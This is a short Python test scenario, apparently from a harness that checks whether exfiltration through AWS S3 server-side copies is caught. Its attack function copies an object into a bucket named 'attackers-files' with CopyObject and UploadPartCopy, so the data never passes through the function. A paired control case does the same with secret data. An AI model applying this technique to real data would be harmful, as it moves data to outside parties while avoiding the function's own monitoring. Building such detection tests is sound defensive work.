"""A04: have the service copy an object into a bucket of somebody else: the bytes never pass the function."""


def attack(hands):
    copies(hands, "open-files", hands.plain(), "attackers-files")


def twin(hands):
    copies(hands, "kept-files", hands.secret(), "kept-copies")


def copies(hands, own, text, bucket):
    """An own object as a whole, and as the only part of another."""
    name, source = hands.trial, f"{own}/{hands.trial}"
    hands.call("s3", "PutObject", Bucket=own, Key=name, Body=text.encode())
    hands.call("s3", "CopyObject", Bucket=bucket, Key=name, CopySource=source)
    begun = hands.call("s3", "CreateMultipartUpload", Bucket=bucket, Key=f"{name}-parts")
    upload = {"Bucket": bucket, "Key": f"{name}-parts", "UploadId": begun.field("UploadId") or "none"}
    part = hands.call("s3", "UploadPartCopy", CopySource=source, PartNumber=1, **upload)
    parts = {"Parts": [{"ETag": part.field("ETag") or "none", "PartNumber": 1}]}
    hands.call("s3", "CompleteMultipartUpload", MultipartUpload=parts, **upload)
